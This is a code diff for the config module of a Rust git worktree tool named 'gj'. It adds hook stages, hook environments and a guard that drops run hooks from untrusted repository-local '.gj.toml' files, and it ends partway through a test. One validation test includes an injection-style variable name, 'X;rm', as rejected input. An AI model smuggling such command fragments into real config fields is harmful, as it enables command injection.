@@ -4,6 +4,14 @@ use std::collections::HashMap;
 use std::fs;
 use std::path::{Path, PathBuf};
 
+use crate::error::GjError;
+
+/// Configuration file name in `~/.gj`
+pub const CONFIG_FILE: &str = "config.toml";
+
+/// JSON configuration file name, used only when `CONFIG_FILE` does not exist
+pub const JSON_CONFIG_FILE: &str = "config.json";
+
 /// Main configuration structure
 #[derive(Debug, Clone, Default, Deserialize, Serialize)]
 pub struct Config {
@@ -20,8 +28,48 @@ pub struct DefaultConfig {
     pub base_dir: Option<String>,
     /// Default branch prefix (default: gj)
     pub prefix: Option<String>,
-    /// Default hooks
+    /// Remove state files of worktrees that no longer exist on `gj list` / `gj cd` (default: false)
+    #[serde(default)]
+    pub auto_prune: bool,
+    /// Path to the git binary (default: git on PATH)
+    pub git_path: Option<String>,
+    /// Directory for `gj archive` snapshots (default: ~/.gj/archives)
+    pub archive_dir: Option<String>,
+    /// Run post_create hooks concurrently instead of in order (default: false)
+    #[serde(default)]
+    pub parallel_hooks: bool,
+    /// Comment posted by `gj pr --comment` without text; `{user}` is the GitHub login
+    pub pr_comment: Option<String>,
+    /// Place worktrees at {base_dir}/{owner}/{repo} without the host segment (default: false)
+    #[serde(default)]
+    pub flat_layout: bool,
+    /// Editor for `gj config edit` (default: $VISUAL, then $EDITOR, then vi)
+    pub editor: Option<String>,
+    /// Keep the shell where it is after creating a worktree, as with `--no-cd` (default: false)
+    #[serde(default)]
+    pub no_cd: bool,
+    /// Turn `gj new` names into kebab-case slugs, keeping a leading ticket ID (default: false)
+    #[serde(default)]
+    pub slugify: bool,
+    /// Age after which `gj list` flags a worktree as stale (e.g., "14d"; default: never)
+    pub stale_after: Option<String>,
+    /// Age after which any command notes old worktrees, at most daily ("off" or unset: never)
+    pub warn_stale_after: Option<String>,
+    /// Copy the origin's ignored, untracked files (e.g. `.env`) into new worktrees (default: false)
+    #[serde(default)]
+    pub copy_gitignored: bool,
+    /// Ignored files and directories not to copy with `copy_gitignored` (e.g. "node_modules")
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub copy_gitignored_exclude: Vec<String>,
+    /// Run `.gj.toml` run hooks and use its `hook_env` (default: false, since any cloned
+    /// repository can ship a `.gj.toml`)
     #[serde(default)]
+    pub allow_local_hooks: bool,
+    /// Environment variables set for every run hook (values may use `~` and `$VAR`)
+    #[serde(default, skip_serializing_if = "HashMap::is_empty")]
+    pub hook_env: HashMap<String, String>,
+    /// Default hooks
+    #[serde(default, skip_serializing_if = "HooksConfig::is_empty")]
     pub hooks: HooksConfig,
 }
 
@@ -34,32 +82,147 @@ pub struct RepoConfig {
     pub base_dir: Option<String>,
     /// Override prefix for this repository
     pub prefix: Option<String>,
+    /// Default ref that `gj new` branches from (defaults to current HEAD)
+    pub default_base: Option<String>,
+    /// Branch merged into every new `gj new` branch (e.g. a scaffold)
+    pub seed_branch: Option<String>,
+    /// Override no_cd for this repository
+    pub no_cd: Option<bool>,
+    /// Environment variables for this repository's run hooks (override `default.hook_env`)
+    #[serde(default, skip_serializing_if = "HashMap::is_empty")]
+    pub hook_env: HashMap<String, String>,
     /// Repository-specific hooks
+    #[serde(default, skip_serializing_if = "HooksConfig::is_empty")]
+    pub hooks: HooksConfig,
+}
+
+impl RepoConfig {
+    /// Repository path with `~` expanded
+    pub fn expanded_path(&self) -> PathBuf {
+        PathBuf::from(shellexpand::tilde(&self.path).as_ref())
+    }
+}
+
+/// Repository-local configuration loaded from `<git_root>/.gj.toml`
+#[derive(Debug, Clone, Default, Deserialize, Serialize)]
+pub struct LocalConfig {
+    /// Override base_dir for this repository
+    pub base_dir: Option<String>,
+    /// Override prefix for this repository
+    pub prefix: Option<String>,
+    /// Default ref that `gj new` branches from (defaults to current HEAD)
+    pub default_base: Option<String>,
+    /// Branch merged into every new `gj new` branch (e.g. a scaffold)
+    pub seed_branch: Option<String>,
+    /// Environment variables for run hooks (override the registered ones)
+    #[serde(default)]
+    pub hook_env: HashMap<String, String>,
+    /// Repository-local hooks (run after registered repository hooks)
     #[serde(default)]
     pub hooks: HooksConfig,
 }
 
+impl LocalConfig {
+    /// File name of the repository-local configuration
+    pub const FILE_NAME: &'static str = ".gj.toml";
+
+    /// Load `.gj.toml` from the git root, if present
+    pub fn load(git_root: &Path) -> Result<Option<Self>> {
+        let path = git_root.join(Self::FILE_NAME);
+
+        if !path.exists() {
+            return Ok(None);
+        }
+
+        let content = fs::read_to_string(&path)
+            .with_context(|| format!("Failed to read config file: {}", path.display()))?;
+
+        let local: LocalConfig = toml::from_str(&content)
+            .with_context(|| format!("Failed to parse config file: {}", path.display()))?;
+        check_env_names(&local.hook_env, "hook_env")
+            .with_context(|| format!("Failed to parse config file: {}", path.display()))?;
+
+        Ok(Some(local))
+    }
+
+    /// Remove what can run commands: run hooks of every stage and `hook_env` (which could
+    /// e.g. change `PATH` for trusted hooks). Returns how many entries were removed.
+    pub fn drop_commands(&mut self) -> usize {
+        let mut dropped = self.hook_env.len();
+        self.hook_env.clear();
+        for hooks in [
+            &mut self.hooks.post_create,
+            &mut self.hooks.after_exit,
+            &mut self.hooks.pre_remove,
+            &mut self.hooks.post_last_exit,
+        ] {
+            let before = hooks.len();
+            hooks.retain(|hook| matches!(hook, Hook::Copy { .. }));
+            dropped += before - hooks.len();
+        }
+        dropped
+    }
+}
+
 /// Hooks configuration
 #[derive(Debug, Clone, Default, Deserialize, Serialize)]
 pub struct HooksConfig {
     /// Hooks executed after worktree creation
     #[serde(default)]
     pub post_create: Vec<Hook>,
+    /// Run hooks executed in the returned-to directory after `gj exit`
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub after_exit: Vec<Hook>,
+    /// Hooks run in the worktree before `gj exit` removes it; a failure aborts the exit
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub pre_remove: Vec<Hook>,
+    /// Hooks run in the origin repo after `gj exit` removes its last gj worktree
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub post_last_exit: Vec<Hook>,
+}
+
+impl HooksConfig {
+    /// Whether no hooks are configured
+    pub fn is_empty(&self) -> bool {
+        self.post_create.is_empty()
+            && self.after_exit.is_empty()
+            && self.pre_remove.is_empty()
+            && self.post_last_exit.is_empty()
+    }
 }
 
 /// Hook definition
 #[derive(Debug, Clone, Deserialize, Serialize)]
 #[serde(tag = "type", rename_all = "lowercase")]
 pub enum Hook {
-    /// Copy a file from origin repo to worktree
+    /// Copy a file or directory from origin repo to worktree
     Copy {
         from: String,
         to: Option<String>,
         #[serde(default)]
         required: bool,
+        /// Glob patterns skipped when copying a directory
+        #[serde(default, skip_serializing_if = "Vec::is_empty")]
+        exclude: Vec<String>,
     },
     /// Run a shell command in the worktree
-    Run { command: String },
+    Run {
+        command: String,
+        /// Kill the command after this many seconds (default: no timeout)
+        #[serde(default, skip_serializing_if = "Option::is_none")]
+        timeout: Option<u64>,
+    },
+}
+
+impl std::fmt::Display for Hook {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match self {
+            Hook::Copy { from, to, .. } => {
+                write!(f, "copy {} -> {}", from, to.as_deref().unwrap_or(from))
+            }
+            Hook::Run { command, .. } => write!(f, "run {}", command),
+        }
+    }
 }
 
 impl Config {
@@ -74,9 +237,22 @@ impl Config {
         let content = fs::read_to_string(&config_path)
             .with_context(|| format!("Failed to read config file: {}", config_path.display()))?;
 
-        let config: Config = toml::from_str(&content)
-            .with_context(|| format!("Failed to parse config file: {}", config_path.display()))?;
+        Self::parse(&content, &config_path)
+            .with_context(|| format!("Failed to parse config file: {}", config_path.display()))
+    }
+
+    /// Parse configuration file content: JSON for a `.json` path, TOML otherwise
+    pub fn parse(content: &str, path: &Path) -> Result<Self> {
+        let config: Config = if is_json(path) {
+            serde_json::from_str(content)?
+        } else {
+            toml::from_str(content)?
+        };
 
+        check_env_names(&config.default.hook_env, "default.hook_env")?;
+        for (name, repo) in &config.repos {
+            check_env_names(&repo.hook_env, &format!("repos.{}.hook_env", name))?;
+        }
         Ok(config)
     }
 
@@ -85,35 +261,57 @@ impl Config {
         let config_path = Self::config_path()?;
 
         if !config_path.exists() {
-            anyhow::bail!(
-                "Configuration file not found at {}\n\n\
-                Run `gj init` to create a configuration file.",
-                config_path.display()
-            );
+            return Err(GjError::ConfigNotFound(config_path).into());
         }
 
         Self::load()
     }
 
+    /// Write configuration to the default config file location
+    pub fn save(&self) -> Result<()> {
+        let config_path = Self::config_path()?;
+
+        let content = if is_json(&config_path) {
+            serde_json::to_string_pretty(self)
+                .map(|json| json + "\n")
+                .context("Failed to serialize config")?
+        } else {
+            toml::to_string_pretty(self).context("Failed to serialize config")?
+        };
+
+        fs::write(&config_path, content)
+            .with_context(|| format!("Failed to write config file: {}", config_path.display()))?;
+
+        Ok(())
+    }
+
     /// Get the configuration directory path (~/.gj)
     pub fn config_dir() -> Result<PathBuf> {
         let home_dir = dirs::home_dir().context("Could not determine home directory")?;
         Ok(home_dir.join(".gj"))
     }
 
-    /// Get the configuration file path (~/.gj/config.toml)
+    /// Get the configuration file path (~/.gj/config.toml).
+    /// ~/.gj/config.json is used instead only when config.toml does not exist.
     pub fn config_path() -> Result<PathBuf> {
-        Ok(Self::config_dir()?.join("config.toml"))
+        let config_dir = Self::config_dir()?;
+        let toml_path = config_dir.join(CONFIG_FILE);
+        let json_path = config_dir.join(JSON_CONFIG_FILE);
+        if !toml_path.exists() && json_path.exists() {
+            return Ok(json_path);
+        }
+        Ok(toml_path)
     }
 
-    /// Find repository configuration by matching the git root path
+    /// Find repository configuration by matching the git root path.
+    /// If the git root is a linked worktree, its main repository is matched as well.
     pub fn find_repo(&self, git_root: &Path) -> Option<(&String, &RepoConfig)> {
         let git_root = git_root.canonicalize().ok()?;
+        let main_root = crate::git::main_repo_root(&git_root);
 
         for (name, repo_config) in &self.repos {
-            let expanded = shellexpand::tilde(&repo_config.path);
-            if let Ok(repo_path) = PathBuf::from(expanded.as_ref()).canonicalize() {
-                if repo_path == git_root {
+            if let Ok(repo_path) = repo_config.expanded_path().canonicalize() {
+                if repo_path == git_root || main_root.as_ref() == Some(&repo_path) {
                     return Some((name, repo_config));
                 }
             }
@@ -121,7 +319,60 @@ impl Config {
         None
     }
 
-    /// Get the base directory for worktrees
+    /// Get the canonical root path of a registered repository by name
+    pub fn registered_repo_path(&self, name: &str) -> Result<PathBuf> {
+        let Some(repo_config) = self.repos.get(name) else {
+            let mut names: Vec<_> = self.repos.keys().map(|k| k.as_str()).collect();
+            names.sort();
+            if names.is_empty() {
+                anyhow::bail!("Repository '{}' is not registered in [repos]", name);
+            }
+            anyhow::bail!(
+                "Repository '{}' is not registered in [repos]. Registered: {}",
+                name,
+                names.join(", ")
+            );
+        };
+
+        let path = repo_config.expanded_path();
+        path.canonicalize().with_context(|| {
+            format!(
+                "Path of repository '{}' does not exist: {}",
+                name,
+                path.display()
+            )
+        })
+    }
+
+    /// Resolve the repository configuration for a git root, merging `.gj.toml` over
+    /// the registered repository configuration
+    pub fn resolve_repo(&self, git_root: &Path) -> Result<Option<RepoConfig>> {
+        let registered = self.find_repo(git_root).map(|(_, cfg)| cfg.clone());
+        let local = self.load_local(git_root)?;
+
+        Ok(merge_local(registered, local, git_root))
+    }
+
+    /// Load `.gj.toml` from the git root. Unless `default.allow_local_hooks` is set, its run
+    /// hooks and `hook_env` are left out with a note, so a freshly cloned repository cannot
+    /// run commands of its choosing.
+    pub fn load_local(&self, git_root: &Path) -> Result<Option<LocalConfig>> {
+        let mut local = LocalConfig::load(git_root)?;
+
+        if let Some(local) = local.as_mut().filter(|_| !self.default.allow_local_hooks) {
+            if local.drop_commands() > 0 {
+                eprintln!(
+                    "Note: Ignoring run hooks and hook_env in {}. \
+                    Set default.allow_local_hooks = true to use them.",
+                    LocalConfig::FILE_NAME
+                );
+            }
+        }
+
+        Ok(local)
+    }
+
+    /// Get the base directory for worktrees, expanding `~` and environment variables
     pub fn get_base_dir(&self, repo_config: Option<&RepoConfig>) -> PathBuf {
         let base_dir = repo_config
             .and_then(|r| r.base_dir.as_ref())
@@ -129,8 +380,26 @@ impl Config {
             .map(|s| s.as_str())
             .unwrap_or("~/.gj/worktrees");
 
-        let expanded = shellexpand::tilde(base_dir);
-        PathBuf::from(expanded.as_ref())
+        PathBuf::from(expand(base_dir))
+    }
+
+    /// Get the directory for worktree archives
+    pub fn get_archive_dir(&self) -> PathBuf {
+        let archive_dir = self
+            .default
+            .archive_dir
+            .as_deref()
+            .unwrap_or("~/.gj/archives");
+
+        PathBuf::from(shellexpand::tilde(archive_dir).as_ref())
+    }
+
+    /// Get the configured git binary path, if any
+    pub fn get_git_path(&self) -> Option<PathBuf> {
+        self.default
+            .git_path
+            .as_ref()
+            .map(|p| PathBuf::from(shellexpand::tilde(p).as_ref()))
     }
 
     /// Get the branch prefix
@@ -142,18 +411,204 @@ impl Config {
             .unwrap_or("gj")
     }
 
+    /// Get the default base ref for `gj new` (None means current HEAD)
+    pub fn get_default_base<'a>(&self, repo_config: Option<&'a RepoConfig>) -> Option<&'a str> {
+        repo_config.and_then(|r| r.default_base.as_deref())
+    }
+
+    /// Get the branch `gj new` merges into new branches, if any
+    pub fn get_seed_branch<'a>(&self, repo_config: Option<&'a RepoConfig>) -> Option<&'a str> {
+        repo_config.and_then(|r| r.seed_branch.as_deref())
+    }
+
+    /// Whether create commands should stay put instead of cd-ing into the worktree
+    pub fn get_no_cd(&self, repo_config: Option<&RepoConfig>) -> bool {
+        repo_config
+            .and_then(|r| r.no_cd)
+            .unwrap_or(self.default.no_cd)
+    }
+
+    /// Get the age after which worktrees are flagged as stale, if configured
+    pub fn get_stale_after(&self) -> Result<Option<chrono::Duration>> {
+        self.default
+            .stale_after
+            .as_deref()
+            .map(|value| parse_duration(value).context("Invalid default.stale_after"))
+            .transpose()
+    }
+
+    /// Get the age after which commands note old worktrees, if enabled
+    pub fn get_warn_stale_after(&self) -> Result<Option<chrono::Duration>> {
+        match self.default.warn_stale_after.as_deref() {
+            None | Some("off") => Ok(None),
+            Some(value) => parse_duration(value)
+                .context("Invalid default.warn_stale_after")
+                .map(Some),
+        }
+    }
+
+    /// Get the environment for run hooks: default entries, overridden by the repository's.
+    /// Values are expanded like `base_dir`.
+    pub fn get_hook_env(&self, repo_config: Option<&RepoConfig>) -> HashMap<String, String> {
+        let mut env = self.default.hook_env.clone();
+        if let Some(repo) = repo_config {
+            env.extend(repo.hook_env.clone());
+        }
+
+        env.into_iter()
+            .map(|(key, value)| (key, expand(&value)))
+            .collect()
+    }
+
     /// Get all hooks (merged default + repo-specific)
     pub fn get_hooks<'a>(&'a self, repo_config: Option<&'a RepoConfig>) -> Vec<&'a Hook> {
-        let mut hooks: Vec<&Hook> = self.default.hooks.post_create.iter().collect();
+        self.merged_hooks(repo_config, |hooks| &hooks.post_create)
+    }
+
+    /// Get all after_exit hooks (default + repo-specific)
+    pub fn get_after_exit_hooks<'a>(
+        &'a self,
+        repo_config: Option<&'a RepoConfig>,
+    ) -> Vec<&'a Hook> {
+        self.merged_hooks(repo_config, |hooks| &hooks.after_exit)
+    }
+
+    /// Get all pre_remove hooks (default + repo-specific)
+    pub fn get_pre_remove_hooks<'a>(
+        &'a self,
+        repo_config: Option<&'a RepoConfig>,
+    ) -> Vec<&'a Hook> {
+        self.merged_hooks(repo_config, |hooks| &hooks.pre_remove)
+    }
+
+    /// Get all post_last_exit hooks (default + repo-specific)
+    pub fn get_post_last_exit_hooks<'a>(
+        &'a self,
+        repo_config: Option<&'a RepoConfig>,
+    ) -> Vec<&'a Hook> {
+        self.merged_hooks(repo_config, |hooks| &hooks.post_last_exit)
+    }
+
+    /// Default hooks of one kind followed by the repository's
+    fn merged_hooks<'a>(
+        &'a self,
+        repo_config: Option<&'a RepoConfig>,
+        kind: fn(&HooksConfig) -> &Vec<Hook>,
+    ) -> Vec<&'a Hook> {
+        let mut hooks: Vec<&Hook> = kind(&self.default.hooks).iter().collect();
 
         if let Some(repo) = repo_config {
-            hooks.extend(repo.hooks.post_create.iter());
+            hooks.extend(kind(&repo.hooks).iter());
         }
 
         hooks
     }
 }
 
+/// Expand `~` and environment variables in a configured value
+pub fn expand(value: &str) -> String {
+    // Unset variables are left as written rather than failing
+    shellexpand::full(value)
+        .unwrap_or_else(|_| shellexpand::tilde(value))
+        .into_owned()
+}
+
+/// Whether a configuration file is JSON (by its `.json` extension)
+fn is_json(path: &Path) -> bool {
+    path.extension().is_some_and(|ext| ext == "json")
+}
+
+/// Fail on a `hook_env` name that is not a shell identifier (`[A-Za-z_][A-Za-z0-9_]*`):
+/// it could not be exported to hooks handed to the shell wrapper.
+fn check_env_names(env: &HashMap<String, String>, section: &str) -> Result<()> {
+    let mut invalid: Vec<&String> = env.keys().filter(|name| !is_env_name(name)).collect();
+    invalid.sort();
+    if let Some(name) = invalid.first() {
+        anyhow::bail!(
+            "Invalid variable name '{}' in {}: use letters, digits and underscores, \
+            not starting with a digit",
+            name,
+            section
+        );
+    }
+    Ok(())
+}
+
+/// Whether a name is a valid shell variable name
+fn is_env_name(name: &str) -> bool {
+    let mut chars = name.chars();
+    chars
+        .next()
+        .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
+        && chars.all(|c| c.is_ascii_alphanumeric() || c == '_')
+}
+
+/// Parse a duration like `30m`, `12h`, `14d` or `2w`
+pub fn parse_duration(value: &str) -> Result<chrono::Duration> {
+    let value = value.trim();
+    let split = value
+        .find(|c: char| !c.is_ascii_digit())
+        .unwrap_or(value.len());
+    let (number, unit) = value.split_at(split);
+    let number: i64 = number
+        .parse()
+        .with_context(|| format!("Invalid duration '{}': expected e.g. 14d", value))?;
+
+    let duration = match unit {
+        "m" => chrono::Duration::try_minutes(number),
+        "h" => chrono::Duration::try_hours(number),
+        "d" => chrono::Duration::try_days(number),
+        "w" => chrono::Duration::try_weeks(number),
+        _ => anyhow::bail!(
+            "Invalid duration '{}': the unit must be m, h, d or w",
+            value
+        ),
+    };
+    duration.with_context(|| format!("Invalid duration '{}': too large", value))
+}
+
+/// Merge a repository-local config over a registered repository config
+fn merge_local(
+    registered: Option<RepoConfig>,
+    local: Option<LocalConfig>,
+    git_root: &Path,
+) -> Option<RepoConfig> {
+    let Some(local) = local else {
+        return registered;
+    };
+
+    let mut repo = registered.unwrap_or_else(|| RepoConfig {
+        path: git_root.to_string_lossy().to_string(),
+        base_dir: None,
+        prefix: None,
+        default_base: None,
+        seed_branch: None,
+        no_cd: None,
+        hook_env: HashMap::new(),
+        hooks: HooksConfig::default(),
+    });
+
+    if local.base_dir.is_some() {
+        repo.base_dir = local.base_dir;
+    }
+    if local.prefix.is_some() {
+        repo.prefix = local.prefix;
+    }
+    if local.default_base.is_some() {
+        repo.default_base = local.default_base;
+    }
+    if local.seed_branch.is_some() {
+        repo.seed_branch = local.seed_branch;
+    }
+    repo.hook_env.extend(local.hook_env);
+    repo.hooks.post_create.extend(local.hooks.post_create);
+    repo.hooks.after_exit.extend(local.hooks.after_exit);
+    repo.hooks.pre_remove.extend(local.hooks.pre_remove);
+    repo.hooks.post_last_exit.extend(local.hooks.post_last_exit);
+
+    Some(repo)
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -182,6 +637,37 @@ mod tests {
         assert_eq!(path, expected);
     }
 
+    #[test]
+    fn test_parse_json_config() {
+        let json_content = r#"{
+            "default": { "prefix": "gj" },
+            "repos": {
+                "my-app": {
+                    "path": "~/dev/my-app",
+                    "hooks": {
+                        "post_create": [
+                            { "type": "copy", "from": ".env", "required": true },
+                            { "type": "run", "command": "npm install", "timeout": 300 }
+                        ]
+                    }
+                }
+            }
+        }"#;
+
+        let config = Config::parse(json_content, Path::new("/home/me/.gj/config.json")).unwrap();
+        assert_eq!(config.default.prefix, Some("gj".to_string()));
+        let repo = config.repos.get("my-app").unwrap();
+        assert_eq!(repo.path, "~/dev/my-app");
+        assert!(matches!(
+            repo.hooks.post_create[1],
+            Hook::Run { timeout: Some(300), .. }
+        ));
+
+        // TOML syntax is rejected in a .json file and vice versa
+        assert!(Config::parse("[default]\n", Path::new("config.json")).is_err());
+        assert!(Config::parse(json_content, Path::new("config.toml")).is_err());
+    }
+
     #[test]
     fn test_config_parse() {
         let toml_content = r#"
@@ -205,6 +691,7 @@ required = true
 [[repos.my-app.hooks.post_create]]
 type = "run"
 command = "npm install"
+timeout = 300
 "#;
 
         let config: Config = toml::from_str(toml_content).unwrap();
@@ -212,6 +699,10 @@ command = "npm install"
         assert_eq!(config.default.base_dir, Some("~/.gj/worktrees".to_string()));
         assert_eq!(config.default.prefix, Some("gj".to_string()));
         assert_eq!(config.default.hooks.post_create.len(), 1);
+        assert!(matches!(
+            config.default.hooks.post_create[0],
+            Hook::Run { timeout: None, .. }
+        ));
 
         let repo = config.repos.get("my-app").unwrap();
         assert_eq!(repo.path, "~/dev/my-app");
@@ -220,22 +711,428 @@ command = "npm install"
 
         // Check hooks
         match &repo.hooks.post_create[0] {
-            Hook::Copy { from, to, required } => {
+            Hook::Copy {
+                from,
+                to,
+                required,
+                exclude,
+            } => {
                 assert_eq!(from, ".env");
                 assert!(to.is_none());
                 assert!(*required);
+                assert!(exclude.is_empty());
             }
             _ => panic!("Expected Copy hook"),
         }
 
         match &repo.hooks.post_create[1] {
-            Hook::Run { command } => {
+            Hook::Run { command, timeout } => {
                 assert_eq!(command, "npm install");
+                assert_eq!(*timeout, Some(300));
             }
             _ => panic!("Expected Run hook"),
         }
     }
 
+    #[test]
+    fn test_find_repo_from_linked_worktree() {
+        let temp_dir = tempfile::TempDir::new().unwrap();
+        let repo_path = temp_dir.path().join("repo");
+        let worktree_path = temp_dir.path().join("worktree");
+        fs::create_dir(&repo_path).unwrap();
+
+        let git = |args: &[&str]| {
+            let output = std::process::Command::new("git")
+                .args(args)
+                .current_dir(&repo_path)
+                .output()
+                .unwrap();
+            assert!(output.status.success(), "git {:?} failed", args);
+        };
+        git(&["init"]);
+        git(&[
+            "-c",
+            "user.email=test@test.com",
+            "-c",
+            "user.name=Test User",
+            "commit",
+            "--allow-empty",
+            "-m",
+            "Initial commit",
+        ]);
+        git(&[
+            "worktree",
+            "add",
+            "-b",
+            "feature",
+            worktree_path.to_str().unwrap(),
+        ]);
+
+        let config: Config = toml::from_str(&format!(
+            "[repos.my-app]\npath = \"{}\"\nprefix = \"feature\"\n",
+            repo_path.display()
+        ))
+        .unwrap();
+
+        let (name, _) = config.find_repo(&repo_path).unwrap();
+        assert_eq!(name, "my-app");
+
+        // Create commands run from inside a worktree resolve to the origin's config
+        let (name, repo) = config.find_repo(&worktree_path).unwrap();
+        assert_eq!(name, "my-app");
+        assert_eq!(config.get_prefix(Some(repo)), "feature");
+
+        assert!(config.find_repo(temp_dir.path()).is_none());
+    }
+
+    #[test]
+    fn test_merge_local_without_registration() {
+        let local: LocalConfig = toml::from_str(
+            r#"
+prefix = "local"
+
+[[hooks.post_create]]
+type = "run"
+command = "make setup"
+"#,
+        )
+        .unwrap();
+
+        let repo = merge_local(None, Some(local), Path::new("/repo")).unwrap();
+        assert_eq!(repo.path, "/repo");
+        assert_eq!(repo.prefix, Some("local".to_string()));
+        assert!(repo.base_dir.is_none());
+        assert_eq!(repo.hooks.post_create.len(), 1);
+    }
+
+    #[test]
+    fn test_merge_local_over_registered() {
+        let config: Config = toml::from_str(
+            r#"
+[repos.my-app]
+path = "/repo"
+prefix = "feature"
+base_dir = "/worktrees"
+
+[[repos.my-app.hooks.post_create]]
+type = "copy"
+from = ".env"
+"#,
+        )
+        .unwrap();
+        let registered = config.repos.get("my-app").cloned();
+
+        let local: LocalConfig = toml::from_str(
+            r#"
+prefix = "local"
+
+[[hooks.post_create]]
+type = "run"
+command = "npm install"
+"#,
+        )
+        .unwrap();
+
+        let repo = merge_local(registered, Some(local), Path::new("/repo")).unwrap();
+        assert_eq!(repo.prefix, Some("local".to_string()));
+        assert_eq!(repo.base_dir, Some("/worktrees".to_string()));
+        assert_eq!(repo.hooks.post_create.len(), 2);
+        assert!(matches!(repo.hooks.post_create[0], Hook::Copy { .. }));
+        assert!(matches!(repo.hooks.post_create[1], Hook::Run { .. }));
+    }
+
+    #[test]
+    fn test_get_default_base() {
+        let config: Config = toml::from_str(
+            r#"
+[repos.with-base]
+path = "/path/with"
+default_base = "origin/develop"
+
+[repos.without-base]
+path = "/path/without"
+"#,
+        )
+        .unwrap();
+
+        let repo_with = config.repos.get("with-base").unwrap();
+        let repo_without = config.repos.get("without-base").unwrap();
+
+        assert_eq!(config.get_default_base(Some(repo_with)), Some("origin/develop"));
+        assert_eq!(config.get_default_base(Some(repo_without)), None);
+        assert_eq!(config.get_default_base(None), None);
+
+        let local: LocalConfig = toml::from_str("default_base = \"main\"\n").unwrap();
+        let repo = merge_local(Some(repo_with.clone()), Some(local), Path::new("/path/with"));
+        assert_eq!(repo.unwrap().default_base, Some("main".to_string()));
+    }
+
+    #[test]
+    fn test_get_seed_branch() {
+        let config: Config = toml::from_str(
+            r#"
+[repos.my-app]
+path = "/path/my-app"
+seed_branch = "scaffold"
+"#,
+        )
+        .unwrap();
+
+        let repo = config.repos.get("my-app").unwrap();
+        assert_eq!(config.get_seed_branch(Some(repo)), Some("scaffold"));
+        assert_eq!(config.get_seed_branch(None), None);
+
+        let local: LocalConfig = toml::from_str("seed_branch = \"templates/api\"\n").unwrap();
+        let repo = merge_local(None, Some(local), Path::new("/path/other")).unwrap();
+        assert_eq!(config.get_seed_branch(Some(&repo)), Some("templates/api"));
+    }
+
+    #[test]
+    fn test_get_hook_env() {
+        std::env::set_var("GJ_TEST_HOOK_ENV_ROOT", "/mnt/cache");
+        let config: Config = toml::from_str(
+            r#"
+[default.hook_env]
+NODE_ENV = "development"
+CACHE_DIR = "$GJ_TEST_HOOK_ENV_ROOT/npm"
+
+[repos.my-app]
+path = "/path/my-app"
+hook_env = { NODE_ENV = "test" }
+"#,
+        )
+        .unwrap();
+
+        let env = config.get_hook_env(config.repos.get("my-app"));
+        assert_eq!(env.get("NODE_ENV").map(String::as_str), Some("test"));
+        assert_eq!(env.get("CACHE_DIR").map(String::as_str), Some("/mnt/cache/npm"));
+
+        let local: LocalConfig = toml::from_str("[hook_env]\nNODE_ENV = \"local\"\n").unwrap();
+        let repo = merge_local(config.repos.get("my-app").cloned(), Some(local), Path::new("/"));
+        let env = config.get_hook_env(repo.as_ref());
+        assert_eq!(env.get("NODE_ENV").map(String::as_str), Some("local"));
+        assert!(Config::default().get_hook_env(None).is_empty());
+        std::env::remove_var("GJ_TEST_HOOK_ENV_ROOT");
+    }
+
+    #[test]
+    fn test_parse_rejects_invalid_hook_env_names() {
+        let path = Path::new("config.toml");
+        let valid = "[default.hook_env]\nNODE_ENV = \"a\"\n_x1 = \"b\"\n";
+        assert!(Config::parse(valid, path).is_ok());
+
+        for content in [
+            "[default.hook_env]\n\"MY-VAR\" = \"a\"\n",
+            "[default.hook_env]\n1ST = \"a\"\n",
+            "[repos.app]\npath = \"/app\"\nhook_env = { \"A B\" = \"a\" }\n",
+        ] {
+            let err = Config::parse(content, path).unwrap_err();
+            assert!(err.to_string().contains("Invalid variable name"), "{}", err);
+        }
+
+        let temp_dir = tempfile::TempDir::new().unwrap();
+        fs::write(
+            temp_dir.path().join(LocalConfig::FILE_NAME),
+            "[hook_env]\n\"X;rm\" = \"a\"\n",
+        )
+        .unwrap();
+        let err = LocalConfig::load(temp_dir.path()).unwrap_err();
+        assert!(format!("{:#}", err).contains("Invalid variable name 'X;rm' in hook_env"));
+    }
+
+    #[test]
+    fn test_get_no_cd() {
+        let config: Config = toml::from_str(
+            r#"
+[default]
+no_cd = true
+
+[repos.interactive]
+path = "/path/interactive"
+no_cd = false
+
+[repos.plain]
+path = "/path/plain"
+"#,
+        )
+        .unwrap();
+
+        assert!(!config.get_no_cd(config.repos.get("interactive")));
+        assert!(config.get_no_cd(config.repos.get("plain")));
+        assert!(config.get_no_cd(None));
+        assert!(!Config::default().get_no_cd(None));
+    }
+
+    #[test]
+    fn test_get_base_dir_expands_env() {
+        std::env::set_var("GJ_TEST_BASE_DIR_ROOT", "/mnt/work");
+        let config: Config = toml::from_str(
+            r#"
+[default]
+base_dir = "$GJ_TEST_BASE_DIR_ROOT/worktrees"
+
+[repos.unset]
+path = "/path/unset"
+base_dir = "$GJ_TEST_UNSET_VARIABLE/wt"
+"#,
+        )
+        .unwrap();
+
+        assert_eq!(config.get_base_dir(None), PathBuf::from("/mnt/work/worktrees"));
+        assert_eq!(
+            config.get_base_dir(config.repos.get("unset")),
+            PathBuf::from("$GJ_TEST_UNSET_VARIABLE/wt")
+        );
+        std::env::remove_var("GJ_TEST_BASE_DIR_ROOT");
+    }
+
+    #[test]
+    fn test_parse_duration() {
+        assert_eq!(parse_duration("30m").unwrap(), chrono::Duration::minutes(30));
+        assert_eq!(parse_duration("12h").unwrap(), chrono::Duration::hours(12));
+        assert_eq!(parse_duration("14d").unwrap(), chrono::Duration::days(14));
+        assert_eq!(parse_duration(" 2w ").unwrap(), chrono::Duration::weeks(2));
+        assert!(parse_duration("14").is_err());
+        assert!(parse_duration("d").is_err());
+        assert!(parse_duration("3y").is_err());
+
+        // Beyond what a duration can hold, rather than a panic
+        let err = parse_duration("99999999999999d").unwrap_err().to_string();
+        assert!(err.contains("too large"), "{}", err);
+    }
+
+    #[test]
+    fn test_registered_repo_path() {
+        let temp_dir = tempfile::TempDir::new().unwrap();
+        let config: Config = toml::from_str(&format!(
+            "[repos.my-app]\npath = \"{}\"\n\n[repos.gone]\npath = \"/nonexistent/gj-test\"\n",
+            temp_dir.path().display()
+        ))
+        .unwrap();
+
+        assert_eq!(
+            config.registered_repo_path("my-app").unwrap(),
+            temp_dir.path().canonicalize().unwrap()
+        );
